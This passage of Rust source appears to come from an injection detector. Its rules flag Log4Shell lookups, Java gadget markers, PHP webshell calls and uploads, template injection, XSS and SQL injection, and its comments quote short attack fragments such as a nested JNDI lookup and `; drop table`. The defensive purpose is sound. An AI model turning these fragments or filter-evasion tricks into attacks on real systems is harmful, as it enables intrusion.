            if let Some(&(pat, kind, check)) = MARKERS.get(idx) {
                if let Some(slot @ None) = markers.get_mut(kind as usize)
                    && confirmed(t, m.start(), m.end(), check)
                {
                    *slot = Some(pat);
                }
            } else if let Some(&(_, bit)) = TRIGGERS.get(idx - MARKERS.len()) {
                words |= bit;
                hits.push(idx - MARKERS.len(), m.start());
            } else {
                let k = idx - MARKERS.len() - TRIGGERS.len();
                let exact = tables
                    .base64
                    .get(k)
                    .is_some_and(|p| t.slice(m.start(), m.end()) == p.as_bytes());
                if let (true, Some(slot @ None)) = (exact, markers.get_mut(Java as usize)) {
                    *slot = Some(if k < 3 {
                        "java-serialized-base64"
                    } else {
                        "java-gadget-base64"
                    });
                }
            }
        }
        (markers, words, hits)
    }

    fn confirmed(t: Text, start: usize, end: usize, check: Check) -> bool {
        match check {
            Any => true,
            Start => t.word_start(start),
            Whole => t.word_start(start) && !t.is_word(end),
            Call => {
                t.word_start(start) && !t.is_word(end) && {
                    let (j, _) = t.skip_code_space(end);
                    t.at(j) == b'('
                }
            }
        }
    }

    /// Java serialized-object magic (`AC ED 00 05`) and Commons-Collections gadget names as
    /// they appear in base64 at each of the three byte alignments.
    fn base64_markers() -> Vec<String> {
        const WORDS: &[&str] = &[
            "runtime",
            "processbuilder",
            "clonetransformer",
            "forclosure",
            "instantiatefactory",
            "instantiatetransformer",
            "invokertransformer",
            "prototypeclonefactory",
            "prototypeserializationfactory",
            "whileclosure",
        ];
        let mut out = vec![
            "rO0AB".to_string(),
            "KztAA".to_string(),
            "Cs7QA".to_string(),
        ];
        for w in WORDS {
            for shift in 0..3 {
                out.push(base64_core(w.as_bytes(), shift));
            }
        }
        out
    }

    /// The base64 characters fully determined by `word` when it starts `shift` bytes into a
    /// 3-byte group (characters mixed with unknown neighbouring bytes are dropped).
    pub(super) fn base64_core(word: &[u8], shift: usize) -> String {
        const ALPHA: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut bytes = vec![0u8; shift];
        bytes.extend_from_slice(word);
        let mut enc = String::new();
        for chunk in bytes.chunks(3) {
            let get = |k: usize| u32::from(chunk.get(k).copied().unwrap_or(0));
            let n = (get(0) << 16) | (get(1) << 8) | get(2);
            for k in 0..=chunk.len() {
                let idx = ((n >> (18 - 6 * k)) & 63) as usize;
                enc.push(char::from(ALPHA.get(idx).copied().unwrap_or(b'A')));
            }
        }
        let skip = [0, 2, 3].get(shift).copied().unwrap_or(0);
        let tail = usize::from(!(shift + word.len()).is_multiple_of(3));
        enc.get(skip..enc.len().saturating_sub(tail))
            .unwrap_or_default()
            .to_string()
    }
}

// ---------------------------------------------------------------------------------------------
// Java
// ---------------------------------------------------------------------------------------------

mod java {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("log4j-nested-lookup", nested_lookup),
        ("java-class-runtime", class_with_runtime),
        ("jsp-upload", jsp_upload),
    ];

    /// Log4Shell obfuscation nests lookups inside `${…}` (`${${::-j}ndi:`); bash's `${a:-b}`
    /// defaults do not nest, so a `${` inside a `${…}` is the signal.
    fn nested_lookup(s: &Scan) -> bool {
        let t = s.t;
        let mut from = 0;
        while let Some(p) = find(t.0, b"${", from) {
            from = p + 2;
            let window = t.slice(p + 2, p + 2 + 200);
            let end = memchr::memchr(b'}', window).unwrap_or(window.len());
            if find(window.get(..end).unwrap_or_default(), b"${", 0).is_some() {
                return true;
            }
        }
        false
    }

    /// `java.Runtime`, `java.evil.ProcessBuilder`: a `java.` class path naming process classes.
    fn class_with_runtime(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::JAVA) && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"java.", from) {
                from = p + 5;
                let mut e = p + 5;
                while t.is_word(e) || t.at(e) == b'.' {
                    e += 1;
                }
                let token = Text(t.slice(p, e));
                if t.word_start(p)
                    && (token.contains_ci(b"runtime") || token.contains_ci(b"processbuilder"))
                {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// A JSP web shell upload: a file name ending in `.jsp`/`.jspx`.
    fn jsp_upload(s: &Scan) -> bool {
        upload_extension(s, &["jsp", "jspx", "jspf", "jsw", "jsv"])
    }
}

/// A value that is a file name (one token, allowing the `name. ext` and trailing-dot tricks
/// used against upload filters) ending in one of `exts`, or a multipart `filename="…"` doing so.
fn upload_extension(s: &Scan, exts: &[&str]) -> bool {
    if !s.has(b'.') {
        return false;
    }
    let b = s.t.0;
    let whole = trim_ascii(b);
    if whole.len() <= 255 && !whole.contains(&b'\n') && name_has_ext(whole, exts) {
        return true;
    }
    s.word(keywords::FILENAME) && {
        let mut from = 0;
        let mut hit = false;
        while let Some(p) = find_ci(b, b"filename=\"", from) {
            let start = p + 10;
            let end =
                memchr::memchr(b'"', s.t.slice(start, b.len())).map_or(b.len(), |e| start + e);
            if name_has_ext(s.t.slice(start, end), exts) {
                hit = true;
                break;
            }
            from = start;
        }
        hit
    }
}

fn name_has_ext(name: &[u8], exts: &[&str]) -> bool {
    let mut name = name;
    while let Some((&last, rest)) = name.split_last() {
        if last != b'.' && last != b' ' {
            break;
        }
        name = rest;
    }
    // `x.php.jpg`: Apache runs any file with a `.php` segment.
    let dots = name.iter().filter(|c| **c == b'.').count();
    if dots >= 2 && !name.contains(&b'/') && !name.contains(&b' ') {
        // Segments strictly between the first and the last dot.
        let middle = name.split(|c| *c == b'.').skip(1).take(dots - 1);
        if middle
            .map(trim_ascii)
            .any(|m| exts.iter().any(|e| m.eq_ignore_ascii_case(e.as_bytes())))
        {
            return true;
        }
    }
    let Some(dot) = name.iter().rposition(|&c| c == b'.') else {
        return false;
    };
    let stem = name.get(..dot).unwrap_or_default();
    let ext = trim_ascii(name.get(dot + 1..).unwrap_or_default());
    let stem_ok = !stem.is_empty() && !stem.contains(&b' ') && find(name, b"://", 0).is_none();
    stem_ok
        && exts.iter().any(|e| {
            starts_with_ci(ext, e.as_bytes())
                && ext
                    .get(e.len()..)
                    .unwrap_or_default()
                    .iter()
                    .all(u8::is_ascii_digit)
        })
}

// ---------------------------------------------------------------------------------------------
// PHP
// ---------------------------------------------------------------------------------------------

mod php {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("php-open-tag", open_tag),
        ("php-function-call", function_call),
        ("php-variable-function", variable_call),
        ("php-quoted-callee", quoted_name_call),
        ("php-variable-variable", variable_variable),
        ("php-serialized-object", serialized_object),
        ("php-session-file", session_file),
        ("php-upload", upload),
    ];

    /// Call flags for words followed by `(`.
    const DISTINCT: u8 = 1;
    const COMMON: u8 = 2;

    /// PHP-only functions (no English or C/Python reading): a call is conclusive.
    #[rustfmt::skip]
    const DISTINCT_FNS: &[&str] = &[
        "phpinfo", "passthru", "shell_exec", "proc_open", "pcntl_exec", "pcntl_fork",
        "fsockopen", "pfsockopen", "base64_decode", "str_rot13", "gzinflate", "gzdecode",
        "gzuncompress", "bzdecompress", "zlib_decode", "convert_uudecode", "create_function",
        "call_user_func", "call_user_func_array", "assert_options", "file_get_contents",
        "file_put_contents", "move_uploaded_file", "highlight_file", "show_source", "php_uname",
        "phpversion", "get_defined_vars", "get_defined_functions", "get_defined_constants",
        "ini_set", "ini_get", "ini_restore", "set_time_limit", "register_shutdown_function",
        "preg_replace", "unserialize", "var_dump", "var_export", "print_r", "curl_exec",
        "curl_init", "file_exists", "escapeshellarg", "escapeshellcmd", "ob_start", "strrev",
        "strip_tags", "intval", "posix_getpwuid", "posix_getuid", "posix_getegid",
        "posix_uname", "mb_ereg_replace", "array_map", "array_filter", "array_walk",
        "array_diff", "is_array", "date_add", "checkdate", "filegroup", "gzopen", "gzread",
        "htmlspecialchars", "rawurldecode", "hex2bin", "str_replace", "gethostbyname",
        "fpassthru", "readfile", "tempnam", "substr",
    ];
    /// Also English words or common C/Python functions: need code-like context.
    #[rustfmt::skip]
    const COMMON_FNS: &[&str] = &[
        "system", "exec", "eval", "assert", "include", "require", "include_once",
        "require_once", "file", "touch", "range", "date", "crypt", "unpack", "pack", "pi",
        "print", "printf", "sprintf", "serialize", "symlink", "link", "copy", "rename", "popen",
        "mail", "header", "extract", "echo", "die", "dl", "leak", "chr", "fopen", "fwrite",
        "fread", "fputs", "fgets", "unlink", "scandir", "glob", "getenv", "putenv", "chmod",
        "getcwd", "opendir", "readdir", "urldecode",
    ];
    /// Snake-case prefixes of PHP extension functions (`pg_`, `ldap_`, `sodium_`, …).
    #[rustfmt::skip]
    const PREFIXES: &[&str] = &[
        "array_", "str_", "preg_", "mb_", "ldap_", "pg_", "odbc_", "mysql_", "mysqli_", "curl_",
        "pcntl_", "zlib_", "sodium_", "openssl_", "date_", "ob_", "ini_", "func_", "session_",
        "apache_", "iconv_", "imap_", "tidy_", "zend_", "dba_", "ftp_", "gmp_", "ctype_",
        "exif_", "msg_", "sem_", "shm_", "var_", "wp_", "spl_", "php_", "opcache_", "oci_",
        "sqlsrv_", "ssh2_", "yaml_", "gz", "bz", "get_defined", "stream_socket",
    ];

    static FUNCTIONS: LazyLock<WordMap> =
        LazyLock::new(|| WordMap::new(&[(DISTINCT_FNS, DISTINCT), (COMMON_FNS, COMMON)]));

    /// `<?` followed by whitespace, `=`, `php`, or the end of the value (`<?xml` is XML unless
    /// a `:` follows, which PHP's short tag then runs).
    fn open_tag(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'<') && s.has(b'?') && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find(t.0, b"<?", from) {
                from = p + 2;
                let n = t.at(p + 2);
                let short =
                    n == 0 || n == b'=' || (n.is_ascii_whitespace() && php_code_follows(t, p + 2));
                let xml_colon =
                    t.starts_ci(p + 2, b"xml") && t.at(t.skip_code_space(p + 5).0) == b':';
                if short || t.starts_ci(p + 2, b"php") || xml_colon {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// After `<? `: a variable, a statement keyword or a function call (not prose).
    fn php_code_follows(t: Text, i: usize) -> bool {
        let j = t.skip_ws(i);
        let e = t.word_end(j);
        let w = t.slice(j, e);
        t.at(j) == 0
            || matches!(t.at(j), b'$' | b'@' | b'`' | b'(')
            || in_list(
                &[
                    "echo", "print", "php", "if", "foreach", "include", "require", "eval",
                    "system", "exec", "return",
                ],
                w,
            )
            || (e > j && t.at(t.skip_code_space(e).0) == b'(')
    }

    /// A call of a dangerous function, allowing the whitespace/comments PHP's lexer skips
    /// between the name and `(` (`exec/**/(`, `exec #x\n(`).
    fn function_call(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'(') {
            return false;
        }
        memchr::memchr_iter(b'(', t.0).any(|paren| {
            callee_before(t, paren).is_some_and(|(start, end, commented)| {
                !t.at(start).is_ascii_digit()
                    && dangerous_call(t, start, t.slice(start, end), paren, commented)
            })
        })
    }

    /// The identifier called by the `(` at `paren`, walking back over whitespace and the
    /// comments PHP allows there (`exec/*x*/(`, `exec //x\n(`, `exec #x\n(`).
    fn callee_before(t: Text, paren: usize) -> Option<(usize, usize, bool)> {
        let mut j = paren;
        let mut commented = false;
        for _ in 0..4 {
            let k = t.skip_back_ws(j);
            if t.before(k) == b'/' && t.before(k - 1) == b'*' {
                let lo = k.saturating_sub(256);
                let open = find_last(t.slice(lo, k - 2), b"/*")?;
                j = lo + open;
                commented = true;
                continue;
            }
            if t.slice(k, j).contains(&b'\n') {
                let line_start = t
                    .slice(k.saturating_sub(256), k)
                    .iter()
                    .rposition(|c| *c == b'\n')
                    .map_or(k.saturating_sub(256), |x| k.saturating_sub(256) + x + 1);
                let line = t.slice(line_start, k);
                let comment = find(line, b"//", 0).or_else(|| memchr::memchr(b'#', line));
                if let Some(c) = comment {
                    j = line_start + c;
                    commented = true;
                    continue;
                }
            }
            let mut start = k;
            while start > 0 && is_word(t.before(start)) && k - start < 64 {
                start -= 1;
            }
            return (start < k && !is_word(t.before(start))).then_some((start, k, commented));
        }
        None
    }

    fn dangerous_call(t: Text, start: usize, w: &[u8], paren: usize, commented: bool) -> bool {
        let flags = FUNCTIONS.get(w);
        let glued = w.len() > 6
            && DISTINCT_FNS
                .iter()
                .any(|f| f.len() >= 6 && ends_with_ci(w, f.as_bytes()));
        if flags & DISTINCT != 0 || glued {
            return true;
        }
        let snake = w.len() > 4
            && w.contains(&b'_')
            && PREFIXES.iter().any(|p| starts_with_ci(w, p.as_bytes()));
        if snake {
            return true;
        }
        flags & COMMON != 0 && (commented || (code_before(t, start) && code_args(t, paren + 1, w)))
    }

    /// The name starts the value or directly follows a code character (`;`, `(`, `@`, `=`…).
    fn code_before(t: Text, i: usize) -> bool {
        let j = t.skip_back_ws(i);
        j == 0
            || matches!(
                t.before(i),
                b';' | b'('
                    | b'{'
                    | b'}'
                    | b'@'
                    | b'='
                    | b'!'
                    | b'|'
                    | b'&'
                    | b'>'
                    | b'/'
                    | b'['
                    | b'"'
                    | b'\''
            )
            || matches!(t.before(j), b';' | b'{' | b'}')
    }

    /// Arguments look like code: empty, a variable, a string, or one bare token, and the call
    /// is followed by an end of statement (not `->` prose like "range(stop) -> list").
    fn code_args(t: Text, i: usize, name: &[u8]) -> bool {
        let (j, _) = t.skip_code_space(i);
        let close = match t.at(j) {
            b')' => Some(j),
            b'$' | b'\'' | b'"' | b'`' => return true,
            c if is_word(c) && (!c.is_ascii_digit() || name.eq_ignore_ascii_case(b"chr")) => {
                let e = t.word_end(j);
                let (k, _) = t.skip_code_space(e);
                // A nested call of a known function: `eval(chr(112)…`.
                if t.at(k) == b'(' && FUNCTIONS.get(t.slice(j, e)) != 0 {
                    return true;
                }
                (t.at(k) == b')').then_some(k)
            }
            _ => None,
        };
        close.is_some_and(|c| {
            let (k, _) = t.skip_code_space(c + 1);
            matches!(
                t.at(k),
                0 | b';' | b'.' | b')' | b'?' | b'[' | b'|' | b'&' | b'+' | b'}' | b','
            )
        })
    }

    /// `$f(…)`, `$$f(…)`, `${'a'}(…)`, `$__[o](…)`, `@$x{0}(…)`: calling a variable.
    fn variable_call(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'$') || !s.has(b'(') {
            return false;
        }
        memchr::memchr_iter(b'$', t.0).any(|p| {
            let mut j = p + 1;
            while matches!(t.at(j), b'$' | b'@') {
                j += 1;
            }
            let (k, _) = t.skip_code_space(j);
            let name_end = if t.at(k) == b'{' {
                memchr::memchr(b'}', t.slice(k, k + 64)).map(|c| k + c + 1)
            } else if t.at(j).is_ascii_alphabetic() || t.at(j) == b'_' {
                Some(t.word_end(j))
            } else {
                None
            };
            name_end.is_some_and(|e| called_after_subscripts(t, e))
        })
    }

    /// After a variable name: optional `[…]`/`{…}` subscripts and `->$m`, then `(`.
    fn called_after_subscripts(t: Text, mut e: usize) -> bool {
        for _ in 0..8 {
            let (n, _) = t.skip_code_space(e);
            let close = match t.at(n) {
                b'(' => return true,
                b'[' => b']',
                b'{' => b'}',
                b'-' if t.at(n + 1) == b'>' && t.at(n + 2) == b'$' => {
                    e = t.word_end(n + 3);
                    continue;
                }
                _ => return false,
            };
            match matching_close(t, n, t.at(n), close) {
                Some(c) => e = c + 1,
                None => return false,
            }
        }
        false
    }

    /// Index of the bracket closing the one at `open_at` (nesting-aware, 64-byte bound).
    fn matching_close(t: Text, open_at: usize, open: u8, close: u8) -> Option<usize> {
        let mut depth = 0usize;
        for (k, &c) in t.slice(open_at, open_at + 64).iter().enumerate() {
            if c == open {
                depth += 1;
            } else if c == close {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(open_at + k);
                }
            }
        }
        None
    }

    /// `(system)('id')`, `"system"(ls)`, `[system][0](ls)`, `('sys'.'tem')('id');`: a call
    /// through a quoted, parenthesised or bracketed callee expression, with code arguments.
    fn quoted_name_call(s: &Scan) -> bool {
        const CALLEES: &[&str] = &[
            "system",
            "exec",
            "passthru",
            "shell_exec",
            "assert",
            "eval",
            "popen",
            "phpinfo",
            "proc_open",
        ];
        let t = s.t;
        if !s.has(b'(') || !s.has_any(b")\"']") {
            return false;
        }
        memchr::memchr_iter(b'(', t.0).any(|p| {
            let j = t.skip_back_ws(p);
            if !matches!(t.before(j), b')' | b'"' | b'\'' | b']' | b'}') || !call_args(t, p + 1) {
                return false;
            }
            // The callee expression: back to a statement boundary, at most 64 bytes.
            let lo = j.saturating_sub(64);
            let expr = t.slice(lo, j);
            let from = expr
                .iter()
                .rposition(|c| matches!(c, b';' | b'\n'))
                .map_or(0, |x| x + 1);
            let expr = expr.get(from..).unwrap_or_default();
            let names = expr.split(|c| !is_word(*c)).any(|w| in_list(CALLEES, w));
            names || string_concat(expr)
        })
    }

    /// Arguments of an indirect call look like code: `('id')`, `(ls);`, `(@id)`, `($x)`.
    fn call_args(t: Text, i: usize) -> bool {
        let (j, _) = t.skip_code_space(i);
        match t.at(j) {
            b'\'' | b'"' | b'$' | b'@' => true,
            c if is_word(c) => {
                let (k, _) = t.skip_code_space(t.word_end(j));
                t.at(k) == b')' && matches!(t.at(t.skip_code_space(k + 1).0), b';' | 0)
            }
            _ => false,
        }
    }

    /// `'sys'.'tem'`, `"a" . "b"`: PHP string concatenation.
    fn string_concat(b: &[u8]) -> bool {
        let t = Text(b);
        memchr::memchr_iter(b'.', b).any(|p| {
            let l = t.before(t.skip_back_ws(p));
            let r = t.at(t.skip_ws(p + 1));
            matches!(l, b'\'' | b'"') && matches!(r, b'\'' | b'"' | b'(')
        })
    }

    /// PHP variable variables `${'name'}`, `$ {$a}`, `${'a'.'b'}`: a string or variable in
    /// `${…}` (bash and templates put a bare name there).
    fn variable_variable(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'$')
            && s.has(b'{')
            && memchr::memchr_iter(b'$', t.0).any(|p| {
                let b = t.skip_ws(p + 1);
                let inner = t.skip_ws(b + 1);
                t.at(b) == b'{'
                    && (matches!(t.at(inner), b'\'' | b'"' | b'$')
                        || (b > p + 1 && t.at(inner).is_ascii_alphabetic()))
            })
    }

    /// PHP `serialize()` output: `O:8:"stdClass":…`, `a:2:{…`, `C:…`.
    fn serialized_object(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':') && s.has_any(b"\"{") && {
            memchr::memchr_iter(b':', t.0).any(|colon| {
                let i = colon.wrapping_sub(1);
                let c = t.at(i);
                if colon == 0 || !matches!(c, b'O' | b'C' | b'a') || is_word(t.before(i)) {
                    return false;
                }
                let mut j = colon + 1;
                while t.at(j).is_ascii_digit() {
                    j += 1;
                }
                let next = t.at(j + 1);
                j > colon + 1
                    && t.at(j) == b':'
                    && ((c != b'a' && next == b'"') || (c == b'a' && next == b'{'))
            })
        }
    }

    /// PHP session files (`sess_<id>`), planted for LFI-to-RCE.
    fn session_file(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::SESS) && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"sess_", from) {
                from = p + 5;
                let mut e = p + 5;
                while t.at(e).is_ascii_alphanumeric() || matches!(t.at(e), b',' | b'-') {
                    e += 1;
                }
                if t.word_start(p) && e - (p + 5) >= 20 && t.at(e) != b'=' {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// An upload name with an executable PHP extension (`shell.php5`, `x.phtml.`, `a. php`).
    fn upload(s: &Scan) -> bool {
        upload_extension(s, &["php", "phtml", "phar", "pht", "phps", "phpt", "pgif"])
    }
}

// ---------------------------------------------------------------------------------------------
// Template injection
// ---------------------------------------------------------------------------------------------

mod template {
    use super::*;

    pub const RULES: &[Rule] = &[("template-expression", expression), ("template-erb", erb)];

    /// Server-side template expressions `{{…}}`, `${…}`, `#{…}`, `*{…}`, `{%…%}` whose content
    /// is an expression (operators, calls, attribute access), not a bare placeholder name that
    /// mail-merge text or docs contain.
    fn expression(s: &Scan) -> bool {
        s.has(b'{')
            && (delimited(s.t, b"{{", b"}}")
                || delimited(s.t, b"${", b"}")
                || delimited(s.t, b"#{", b"}")
                || delimited(s.t, b"*{", b"}")
                || delimited(s.t, b"{%", b"%}"))
    }

    fn delimited(t: Text, open: &[u8], close: &[u8]) -> bool {
        let mut from = 0;
        while let Some(p) = find(t.0, open, from) {
            from = p + open.len();
            let window = t.slice(from, from + 256);
            if let Some(end) = find(window, close, 0) {
                let body = trim_ascii(window.get(..end).unwrap_or_default());
                if is_expression(body) && !(open == b"${" && bash_parameter(body)) {
                    return true;
                }
            }
        }
        false
    }

    /// Bash parameter expansion `${VAR:-default}`, `${VAR:=x}`, `${VAR#prefix}`: shell, not
    /// a template (the shell rules judge it).
    fn bash_parameter(b: &[u8]) -> bool {
        let t = Text(b);
        let e = t.word_end(0);
        e > 0
            && (matches!((t.at(e), t.at(e + 1)), (b':', b'-' | b'=' | b'+' | b'?'))
                || matches!(t.at(e), b'#' | b'%' | b'/'))
    }

    /// `<% … %>` / `<%= … %>` with code inside.
    fn erb(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'%') && s.has(b'<') && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find(t.0, b"<%", from) {
                from = p + 2;
                let window = t.slice(from, from + 512);
                if let Some(end) = find(window, b"%>", 0) {
                    let body = trim_ascii(window.get(..end).unwrap_or_default());
                    let body = trim_ascii(body.strip_prefix(b"=").unwrap_or(body));
                    if is_expression(body) || (!body.is_empty() && body.iter().all(|&c| is_word(c)))
                    {
                        hit = true;
                        break;
                    }
                }
            }
            hit
        }
    }

    /// Content with operators or access syntax (`7*7`, `a.b`, `f()`, `x|e`, `'s'`, `[0]`) and
    /// few words; prose inside braces has spaces between many words and no operators.
    fn is_expression(b: &[u8]) -> bool {
        let op = b.iter().any(|c| {
            matches!(
                c,
                b'*' | b'+'
                    | b'('
                    | b'['
                    | b'|'
                    | b'\''
                    | b'"'
                    | b'='
                    | b'<'
                    | b'>'
                    | b'@'
                    | b'~'
                    | b'%'
                    | b'/'
                    | b'-'
            )
        });
        let access = b.windows(2).any(|w| matches!(w, [x, b'.', ..] if is_word(*x) || matches!(x, b')' | b']' | b'\'' | b'"')))
            && b.windows(2).any(|w| matches!(w, [b'.', y] if y.is_ascii_alphabetic() || *y == b'_'));
        let words = b
            .split(u8::is_ascii_whitespace)
            .filter(|w| !w.is_empty())
            .count();
        let alnum = b.iter().filter(|c| c.is_ascii_alphanumeric()).count();
        let price_like = b
            .iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b'.' | b',' | b'-' | b' ' | b'%'));
        (op || access) && words <= 8 && alnum >= 1 && !price_like
    }
}

// ---------------------------------------------------------------------------------------------
// HTML / XSS
// ---------------------------------------------------------------------------------------------

mod html {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("html-libinjection", libinjection),
        ("html-event-handler", event_handler),
        ("html-script-scheme", script_scheme),
        ("js-nonalnum", jsfuck),
        ("js-tagged-template-call", tagged_template_call),
        ("js-global-access", bracket_global),
    ];

    /// libinjection's HTML5 tokenizer, run when the value has a `<`: it decides whether a
    /// tag/attribute can execute script in any of the contexts the value might land in.
    fn libinjection(s: &Scan) -> bool {
        s.has(b'<')
            && !xml_declaration_only(s.t)
            && windows(
                s.t,
                memchr::memchr_iter(b'<', s.t.0).filter(|&p| s.t.at(p + 1) != b'?'),
                8,
            )
            .any(|w| libinjectionrs::detect_xss(w).is_injection())
    }

    /// An `<?xml …?>` declaration alone is not HTML.
    fn xml_declaration_only(t: Text) -> bool {
        memchr::memchr_iter(b'<', t.0).count() == 1 && t.contains_ci(b"<?xml")
    }

    /// ` onerror=`, `"onload =`, `/onmouseover=`: an `on*` attribute breaking out of a quoted
    /// value or tag, with a script-like value.
    fn event_handler(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'=') {
            return false;
        }
        let mut from = 0;
        while let Some(p) = find_ci(t.0, b"on", from) {
            from = p + 2;
            let prev = t.before(p);
            let mut e = p + 2;
            while t.at(e).is_ascii_alphabetic() {
                e += 1;
            }
            let eq = t.skip_ws(e);
            if e - p < 5
                || t.at(eq) != b'='
                || !matches!(
                    prev,
                    b'"' | b'\'' | b'/' | b'`' | b';' | b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c
                )
            {
                continue;
            }
            let v = t.skip_ws(eq + 1);
            let mut k = v;
            while k < t.len() && k < v + 128 && !t.at(k).is_ascii_whitespace() {
                k += 1;
            }
            let val = Text(t.slice(v, k));
            let known = in_list(
                &[
                    "onload",
                    "onerror",
                    "onclick",
                    "onmouseover",
                    "onfocus",
                    "onblur",
                    "onmouseenter",
                    "onanimationstart",
                    "ontoggle",
                    "onpageshow",
                    "onbegin",
                    "onpointerover",
                ],
                t.slice(p, e),
            );
            let scripty = known
                || val.0.contains(&b'(')
                || val.0.contains(&b'`')
                || val.contains_ci(b"javascript")
                || (matches!(val.at(0), b'"' | b'\'')
                    && val.0.iter().any(|c| matches!(c, b'(' | b'.' | b';')));
            let breakout = matches!(prev, b'"' | b'\'' | b'/' | b'`') || s.has_any(b"<\"'");
            if scripty && breakout {
                return true;
            }
        }
        false
    }

    /// `javascript:` / `vbscript:` with tabs, newlines or spaces inside the scheme name
    /// (`ja\tvascript:`), which browsers strip from URLs.
    fn script_scheme(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':')
            && s.has_any(b"\t\n\r")
            && [&b"javascript:"[..], b"vbscript:"].iter().any(|k| {
                let first = k.first().copied().unwrap_or(0);
                memchr::memchr2_iter(first, first.to_ascii_uppercase(), t.0).any(|p| {
                    let mut i = p;
                    k.iter().all(|&c| {
                        while matches!(t.at(i), b'\t' | b'\n' | b'\r') {
                            i += 1;
                        }
                        let ok = t.at(i).eq_ignore_ascii_case(&c);
                        i += 1;
                        ok
                    })
                })
            })
    }

    /// JSFuck / non-alphanumeric JS: `!![]`, `(![]`, `![]+`, `+[]`, `[][`.
    fn jsfuck(s: &Scan) -> bool {
        s.has(b'[')
            && [&b"!![]"[..], b"(![]", b"![]+", b"+[]", b"[]["]
                .iter()
                .any(|k| find(s.t.0, k, 0).is_some())
    }

    /// Tagged template literal calls: `` [].sort.call`…` ``, `` alert`1` ``.
    fn tagged_template_call(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'`')
            && [&b"call"[..], b"apply", b"alert", b"eval", b"prompt"]
                .iter()
                .any(|k| {
                    let mut from = 0;
                    while let Some(p) = find_ci(t.0, k, from) {
                        from = p + k.len();
                        let member = k.starts_with(b"a") && k != b"apply"
                            || t.before(t.skip_back_ws(p)) == b'.';
                        if member && t.word_start(p) && t.at(t.skip_code_space(from).0) == b'`' {
                            return true;
                        }
                    }
                    false
                })
    }

    /// `window["alert"]`, `self[/*x*/"alert"]`, `(document)["cookie"]`,
    /// `document /*x*/ . cookie`: property access on a JS global through brackets or comments.
    fn bracket_global(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::JS_GLOBAL)
            && (s.has(b'[') || (s.has(b'*') && s.has(b'/')) || find(t.0, b" .", 0).is_some())
            && {
                [
                    "window",
                    "self",
                    "document",
                    "top",
                    "parent",
                    "frames",
                    "globalthis",
                ]
                .iter()
                .any(|g| {
                    s.each_word(g, |_, e| {
                        let (j, c0) = t.skip_code_space(e);
                        let j = if t.at(j) == b')' { j + 1 } else { j };
                        let (j, c1) = t.skip_code_space(j);
                        let commented = c0 || c1;
                        match t.at(j) {
                            b'[' => matches!(t.at(t.skip_code_space(j + 1).0), b'"' | b'\'' | b'`'),
                            b'.' => {
                                let (k, c2) = t.skip_code_space(j + 1);
                                let prop = t.slice(k, t.word_end(k));
                                (commented || c2 || k > j + 1 || j > e)
                                    && in_list(&["cookie", "location", "domain", "write"], prop)
                            }
                            _ => false,
                        }
                    })
                })
            }
    }
}

// ---------------------------------------------------------------------------------------------
// SQL
// ---------------------------------------------------------------------------------------------

mod sql {
    use super::*;
    use keywords::{
        BOOL_OP, DECLARE, EXEC, HAVING, ORDER, SELECT, SLEEP, SQL_WORD, STATEMENT, UNION, WAITFOR,
    };

    pub const RULES: &[Rule] = &[
        ("sql-union-select", union_select),
        ("sql-stacked-statement", stacked_statement),
        ("sql-quote-break", quote_break),
        ("sql-quote-comment", quote_comment),
        ("sql-tautology", tautology),
        ("sql-sleep", sleep_call),
        ("sql-waitfor", waitfor_delay),
        ("sql-select-projection", select_projection),
        ("sql-order-by-probe", order_by_probe),
        ("sql-postgres-cast", postgres_cast),
        ("sql-json-operator", json_operator),
        ("sql-mssql", mssql),
        ("sql-quoted-comparison", quoted_comparison),
        ("sql-quote-trailing-comment", quote_trailing_comment),
        ("sql-alias-from", alias_from),
        ("sql-from-clause", from_clause),
        ("nosql-operator", mongo_operator),
        ("sql-bare-comparison", bare_comparison),
        ("sql-function-fragment", function_fragment),
        ("sql-values-list", values_list),
        ("sql-open-quote-keyword", open_quote_keyword),
        ("sql-libinjection", libinjection),
    ];

    /// `union [all|distinct] select`, tolerating comments and `(` between the words.
    fn union_select(s: &Scan) -> bool {
        let t = s.t;
        s.word(UNION) && (s.word(SELECT) || t.contains_ci(b"values")) && {
            ["union", "except", "intersect"].iter().any(|op| {
                s.each_trigger(op, true, |_, e| {
                    let mut n = t.next_word(skip_parens(t, e));
                    if t.word_is(n, &["all", "distinct"]) {
                        n = n.and_then(|(_, e2)| t.next_word(skip_parens(t, e2)));
                    }
                    t.word_is(n, &["select", "values"])
                })
            })
        }
    }

    fn skip_parens(t: Text, mut i: usize) -> usize {
        loop {
            let (j, _) = t.skip_code_space(i);
            if t.at(j) != b'(' {
                return j;
            }
            i = j + 1;
        }
    }

    /// A second statement after `;` (`; drop table`, `;select *`, `; exec xp_…`,
    /// `; shutdown`), or a destructive statement opening the value with full syntax
    /// (`DROP TABLE x;--`, `INSERT INTO t (…) VALUES`).
    fn stacked_statement(s: &Scan) -> bool {
        let t = s.t;
        if !s.word(STATEMENT | SELECT | DECLARE | EXEC | WAITFOR) {
            return false;
        }
        let after_semicolon = s.has(b';')
